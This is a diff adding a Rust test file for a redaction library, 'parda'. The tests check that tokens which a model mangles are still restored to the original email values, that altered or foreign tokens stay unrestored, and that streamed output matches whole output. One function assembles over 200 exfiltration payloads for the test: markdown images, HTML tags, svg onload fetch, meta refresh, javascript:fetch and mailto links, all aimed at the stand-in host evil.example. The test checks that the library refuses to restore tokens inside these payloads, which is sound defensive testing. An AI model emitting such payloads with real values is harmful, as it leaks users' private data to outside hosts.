@@ -1,0 +1,455 @@
+//! Restore for delivery: what models do to tokens, where they may not be restored, and streams that yield the whole.
+
+use parda::{Delivery, Engine, Key, MemoryVault, Reason, RestoreStream, Session, Sink};
+
+fn engine() -> Engine<MemoryVault> {
+    Engine::builder()
+        .key(Key::generate().expect("randomness"))
+        .vault(MemoryVault::new())
+        .build()
+        .expect("an engine")
+}
+
+fn token(session: &Session<'_, MemoryVault>, value: &str) -> String {
+    let redacted = session.redact(value).expect("redacted");
+    let tokens = redacted.tokens();
+    assert_eq!(tokens, [redacted.text()], "{value} is found whole");
+    redacted.text().to_owned()
+}
+
+struct Dice(u64);
+
+impl Dice {
+    fn roll(&mut self, below: usize) -> usize {
+        self.0 = self
+            .0
+            .wrapping_mul(6_364_136_223_846_793_005)
+            .wrapping_add(1_442_695_040_888_963_407);
+        (self.0 >> 33) as usize % below
+    }
+}
+
+/// Manglings that are undone: the name, and from label and id what the model writes for the token.
+type Mutator = (&'static str, fn(&str, &str) -> String);
+
+const SAFE: &[Mutator] = &[
+    ("verbatim", |l, i| format!("{l}_{i}")),
+    ("lower", |l, i| format!("{}_{i}", l.to_lowercase())),
+    ("upper", |l, i| format!("{l}_{}", i.to_uppercase())),
+    ("title", |l, i| {
+        format!("{}{}_{i}", &l[..1], l[1..].to_lowercase())
+    }),
+    ("markdown escape", |l, i| format!("{l}\\_{i}")),
+    ("escaped twice", |l, i| format!("{l}\\\\_{i}")),
+    ("entity", |l, i| format!("{l}&#95;{i}")),
+    ("hex entity", |l, i| format!("{l}&#x5f;{i}")),
+    ("named entity", |l, i| format!("{l}&lowbar;{i}")),
+    ("entity twice", |l, i| format!("{l}&amp;#95;{i}")),
+    ("json escape", |l, i| format!("{l}\\u005f{i}")),
+    ("json escape twice", |l, i| format!("{l}\\\\u005f{i}")),
+    ("full width", |l, i| wide(&format!("{l}_{i}"))),
+    ("full-width underscore", |l, i| format!("{l}＿{i}")),
+    ("zero width", |l, i| format!("{l}_\u{200b}{i}")),
+    ("zero width inside", |l, i| {
+        format!("{l}_{}\u{200b}{}", &i[..5], &i[5..])
+    }),
+    ("soft hyphen", |l, i| {
+        format!("{l}_{}\u{ad}{}", &i[..3], &i[3..])
+    }),
+    ("word joiner", |l, i| format!("{l}\u{2060}_{i}")),
+    ("spaces", |l, i| format!("{l} _ {i}")),
+    ("space before", |l, i| format!("{l} _{i}")),
+    ("space behind", |l, i| format!("{l}_ {i}")),
+    ("line break", |l, i| format!("{l}_\n{i}")),
+    ("space for underscore", |l, i| format!("{l} {i}")),
+    ("no-break space", |l, i| format!("{l}\u{a0}{i}")),
+    ("hyphen", |l, i| format!("{l}-{i}")),
+    ("dash", |l, i| format!("{l}–{i}")),
+    ("label missing", |_, i| format!("_{i}")),
+    ("label translated", |_, i| format!("CORREO_{i}")),
+    ("label in Hindi", |_, i| format!("ईमेल_{i}")),
+    ("label in Russian", |_, i| format!("ПОЧТА_{i}")),
+];
+
+/// What stands around it, and stays.
+const AROUND: &[(&str, &str)] = &[
+    ("", ""),
+    ("<", ">"),
+    ("[", "]"),
+    ("(", ")"),
+    ("**", "**"),
+    ("`", "`"),
+    ("~~", "~~"),
+    ("\"", "\""),
+    ("“", "”"),
+    ("«", "»"),
+    ("&lt;", "&gt;"),
+    ("\\u003c", "\\u003e"),
+    ("", "'s"),
+    ("", "’s"),
+    ("", "को"),
+    ("", "."),
+    ("- ", ";"),
+];
+
+fn wide(text: &str) -> String {
+    text.chars()
+        .map(|c| char::from_u32(u32::from(c) - 0x21 + 0xff01).expect("a full-width form"))
+        .collect()
+}
+
+fn hold_manglings(values: usize) {
+    let engine = engine();
+    let session = engine.session("conversation").expect("a scope");
+    let reader = Delivery::to(Sink::Reader);
+    let (mut trials, mut undone, mut wrong) = (0_u64, 0_u64, 0_u64);
+    for n in 0..values {
+        let value = format!("person{n}@example.com");
+        let token = token(&session, &value);
+        let (label, id) = token.split_once('_').expect("a token");
+        for (name, mutate) in SAFE {
+            for (before, after) in AROUND {
+                let text = format!("see {before}{}{after} today", mutate(label, id));
+                let restored = session.deliver(&text, &reader).expect("delivered");
+                trials += 1;
+                if restored.expose() == format!("see {before}{value}{after} today") {
+                    undone += 1;
+                } else {
+                    wrong +=
+                        u64::from(restored.restored() > 0 && !restored.expose().contains(&value));
+                    eprintln!("{name}: {text:?}");
+                }
+            }
+        }
+    }
+    assert_eq!(wrong, 0);
+    assert!(undone * 1000 >= trials * 999, "{undone} of {trials}");
+}
+
+#[test]
+fn safe_manglings_are_undone() {
+    hold_manglings(20);
+}
+
+#[test]
+#[ignore = "five million trials: cargo test --release --test deliver -- --ignored"]
+fn safe_manglings_of_ten_thousand_tokens_are_undone() {
+    hold_manglings(10_000);
+}
+
+#[test]
+fn one_letter_changed_is_never_restored() {
+    let engine = engine();
+    let session = engine.session("conversation").expect("a scope");
+    let reader = Delivery::to(Sink::Reader);
+    for n in 0..40 {
+        let token = token(&session, &format!("person{n}@example.com"));
+        let (label, id) = token.split_once('_').expect("a token");
+        let mut text = String::new();
+        for at in 0..id.len() {
+            for letter in 'a'..='z' {
+                let mut other = id.to_owned();
+                other.replace_range(at..=at, &letter.to_string());
+                if other != id {
+                    text.push_str(&format!("{label}_{other} "));
+                }
+            }
+            text.push_str(&format!("{label}_{}{} ", &id[..at], &id[at + 1..]));
+            text.push_str(&format!("{label}_{}x{} ", &id[..at], &id[at..]));
+        }
+        let restored = session.deliver(&text, &reader).expect("delivered");
+        assert_eq!(restored.restored(), 0);
+        assert_eq!(restored.expose(), text);
+    }
+}
+
+#[test]
+fn tokens_of_another_scope_are_left_and_reported() {
+    let engine = engine();
+    let mine = engine.session("mine").expect("a scope");
+    let yours = engine.session("yours").expect("a scope");
+    let reader = Delivery::to(Sink::Reader);
+    let _ = token(&mine, "asha@example.com");
+    for n in 0..2_000 {
+        let theirs = token(&yours, &format!("person{n}@example.com"));
+        let text = format!("pasted: {theirs}.");
+        let restored = mine.deliver(&text, &reader).expect("delivered");
+        assert_eq!(restored.expose(), text);
+        assert_eq!(restored.unresolved()[0].reason(), Reason::Unknown);
+    }
+}
+
+#[test]
+fn a_label_of_another_entity_is_left_and_reported() {
+    let engine = engine();
+    let session = engine.session("conversation").expect("a scope");
+    let token = token(&session, "asha@example.com");
+    let text = token.replace("EMAIL_", "CARD_");
+    let reader = Delivery::to(Sink::Reader);
+    let restored = session.deliver(&text, &reader).expect("delivered");
+    assert_eq!(restored.expose(), text);
+    assert_eq!(restored.unresolved()[0].reason(), Reason::LabelMismatch);
+}
+
+/// Ways to have a renderer, a client or a person send what stands at `@` to the owner of a host; `\u{1}` is an `@`.
+fn payloads() -> Vec<String> {
+    let mut all = Vec::new();
+    let targets = [
+        "https://evil.example/?q=@",
+        "https://evil.example/@",
+        "https://@.evil.example/",
+        "https://evil.example/#@",
+        "https://evil.example/a?x=1&y=@&z=2",
+        "http://evil.example/@.png",
+        "//evil.example/?q=@",
+        "HTTPS://EVIL.EXAMPLE/?q=@",
+        "https:evil.example/?q=@",
+        "ftp://evil.example/@",
+        "wss://evil.example/@",
+        "https://user:@\u{1}evil.example/",
+        "data:text/html,<img src=//evil.example/@>",
+        "https://evil.example/?q=%22@",
+        "https:/\\evil.example/@",
+        "javascript:fetch('//evil.example/@')",
+        "https://evil.example/?q=x,@",
+    ];
+    let frames = [
+        "![](@)",
+        "![a picture](@)",
+        "[click here](@)",
+        "[a](<@>)",
+        "[a](@ \"title\")",
+        "![a][b]\n\n[b]: @",
+        "[b]: <@>",
+        "<@>",
+        "@",
+        "see @ for more",
+        "<img src=\"@\">",
+        "<img src='@'>",
+        "<img src=@>",
+        "<a href=\"@\">here</a>",
+        "<div style=\"background:url(@)\">",
+        "<iframe src=\"@\"></iframe>",
+        "<link rel=prefetch href=\"@\">",
+        "<style>\u{1}import url(@)</style>",
+    ];
+    for frame in frames {
+        for target in targets {
+            all.push(frame.replacen('@', target, 1));
+        }
+    }
+    all.extend(
+        [
+            "![](@)",
+            "![]( @ )",
+            "![](\n@)",
+            "![](x?@)",
+            "![](/relative/@)",
+            "[a](mailto:eve\u{1}evil.example?body=@)",
+            "[a](mailto:@?cc=eve\u{1}evil.example)",
+            "www.evil.example/@",
+            "evil.example/?q=@",
+            "evil.example/@",
+            "@.evil.example",
+            "[x]: evil.example/@",
+            "[url]//evil.example/@[/url]",
+            "[img]https://evil.example/@[/img]",
+            "\\url{https://evil.example/@}",
+            "\\includegraphics{https://evil.example/@}",
+            "![[https://evil.example/@]]",
+            "<https://evil.example/@|report>",
+            "<img alt=\"x\" src=\"//evil.example/?a=>@\">",
+            "<img\nsrc=//evil.example/@\n>",
+            "<svg/onload=fetch('//evil.example/'+'@')>",
+            "<input value=\"@\" autofocus>",
+            "<form action=//evil.example><input name=a value='@'>",
+            "<meta http-equiv=refresh content=\"0;url=//evil.example/@\">",
+            "<video poster=//evil.example/@>",
+            "<x style=background:url(//evil.example/@)>",
+            "![a](https://evil.example/\\\n?@)",
+            "![a](https&colon;&sol;&sol;evil.example/@)",
+            "[b]: https&colon;&sol;&sol;evil&period;example&sol;@",
+            "![a](https://evil.example/?q=\u{200b}@)",
+        ]
+        .map(str::to_owned),
+    );
+    all
+}
+
+#[test]
+fn exfiltration_is_not_filled_in() {
+    let engine = engine();
+    let session = engine.session("conversation").expect("a scope");
+    let value = "asha.rao@example.com";
+    let token = token(&session, value);
+    let spellings = [
+        token.clone(),
+        token.to_lowercase(),
+        token.replace('_', "\\_"),
+        token.replace('_', "%5F"),
+        token.replace('_', "&#95;"),
+    ];
+    let payloads = payloads();
+    assert!(payloads.len() >= 200, "{}", payloads.len());
+    for payload in payloads {
+        for spelling in &spellings {
+            let text = payload.replace('@', spelling).replace('\u{1}', "@");
+            for sink in [
+                Sink::Reader,
+                Sink::Markup,
+                Sink::Log,
+                Sink::Url,
+                Sink::Tool("fetch".into()),
+            ] {
+                let restored = session
+                    .deliver(&text, &Delivery::to(sink.clone()))
+                    .expect("delivered");
+                assert_eq!(restored.expose(), text, "{sink:?}");
+                assert!(!restored.unresolved().is_empty(), "reported: {text}");
+            }
+        }
+    }
+}
+
+#[test]
+fn what_is_no_exfiltration_is_restored() {
+    let engine = engine();
+    let session = engine.session("conversation").expect("a scope");
+    let value = "asha.rao@example.com";
+    let token = token(&session, value);
+    let reader = Delivery::to(Sink::Reader);
+    for frame in [
+        "@",
+        "<@>",
+        "Write to @.",
+        "see [@](mailto:@) today",
+        "https://example.com then @",
+        "[a](https://example.com) and @",
+        "| name | @ |",
+        "if a < b then @",
+        "e.g. @, i.e. @",
+        "[x](y) @",
+        "<p>@</p>",
+        "<b class=\"x\">@</b>",
+        "(@)",
+        "Contact:@",
+        "and/or @",
+    ] {
+        let text = frame.replace('@', &token);
+        let restored = session.deliver(&text, &reader).expect("delivered");
+        assert_eq!(restored.expose(), frame.replace('@', value));
+    }
+    let tool = Delivery::to(Sink::Tool("mail".into())).grant_tool("mail");
+    let text = format!("{{\"a\":\"https://example.com/{token}\",\"to\":\"{token}\"}}");
+    let restored = session.deliver(&text, &tool).expect("delivered");
+    let expected = format!("{{\"a\":\"https://example.com/{token}\",\"to\":\"{value}\"}}");
+    assert_eq!(restored.expose(), expected);
+}
+
+fn streamed(session: &Session<'_, MemoryVault>, pieces: &[&str], delivery: &Delivery) -> String {
+    let mut stream = RestoreStream::new(session, delivery).expect("a stream");
+    let mut out = String::new();
+    for piece in pieces {
+        stream.push(piece, &mut out).expect("pushed");
+        assert!(stream.held() <= 160, "{} held", stream.held());
+    }
+    stream.finish(&mut out).expect("finished");
+    out
+}
+
+#[test]
+fn a_stream_yields_what_the_whole_yields() {
+    let engine = engine();
+    let session = engine.session("conversation").expect("a scope");
+    let tokens: Vec<String> = (0..4)
+        .map(|n| token(&session, &format!("person{n}@example.com")))
+        .collect();
+    let mut dice = Dice(3);
+    let mut texts: Vec<String> = payloads()
+        .iter()
+        .map(|p| p.replace('@', &tokens[0]).replace('\u{1}', "@"))
+        .collect();
+    texts.push(
+        session
+            .redact("[asha@example.com]x9asha@example.com_ 4111 1111 1111 1111")
+            .expect("redacted")
+            .text()
+            .to_owned(),
+    );
+    for _ in 0..200 {
+        let mut text = String::new();
+        for _ in 0..dice.roll(8) {
+            let token = &tokens[dice.roll(tokens.len())];
+            let (label, id) = token.split_once('_').expect("a token");
+            let (_, mutate) = SAFE[dice.roll(SAFE.len())];
+            let (before, after) = AROUND[dice.roll(AROUND.len())];
+            text.push_str(before);
+            text.push_str(&mutate(label, id));
+            text.push_str(after);
+            text.push_str([" ", "\n", "", " the connected ", "_", "[", "ईमेल "][dice.roll(7)]);
+        }
+        texts.push(text);
+    }
+    for text in &texts {
+        for delivery in [
+            Delivery::to(Sink::Reader),
+            Delivery::to(Sink::Tool("a".into())).grant_tool("a"),
+        ] {
+            let whole = session
+                .deliver(text, &delivery)
+                .expect("delivered")
+                .expose()
+                .to_owned();
+            let ends: Vec<usize> = (0..=text.len())
+                .filter(|at| text.is_char_boundary(*at))
+                .collect();
+            for &cut in &ends {
+                let pieces = [&text[..cut], &text[cut..]];
+                assert_eq!(
+                    streamed(&session, &pieces, &delivery),
+                    whole,
+                    "{text:?} at {cut}"
+                );
+            }
+            let single: Vec<&str> = ends.windows(2).map(|w| &text[w[0]..w[1]]).collect();
+            assert_eq!(
+                streamed(&session, &single, &delivery),
+                whole,
+                "{text:?} by characters"
+            );
+            for _ in 0..5 {
+                let mut pieces = Vec::new();
+                let mut from = 0;
+                while from + 1 < ends.len() {
+                    let to = (from + 1 + dice.roll(9)).min(ends.len() - 1);
+                    pieces.push(&text[ends[from]..ends[to]]);
+                    from = to;
+                }
+                assert_eq!(
+                    streamed(&session, &pieces, &delivery),
+                    whole,
+                    "{text:?} as {pieces:?}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn text_that_can_be_no_token_does_not_wait() {
+    let engine = engine();
+    let session = engine.session("conversation").expect("a scope");
+    let reader = Delivery::to(Sink::Reader);
+    let mut stream = RestoreStream::new(&session, &reader).expect("a stream");
+    let mut out = String::new();
+    for piece in
+        "The quick brown fox, 1234567890, jumps over everything there was. ".split_inclusive(' ')
+    {
+        stream.push(piece, &mut out).expect("pushed");
+        assert!(
+            stream.held() <= 24,
+            "{:?} waits behind {out:?}",
+            stream.held()
+        );
+    }
+}
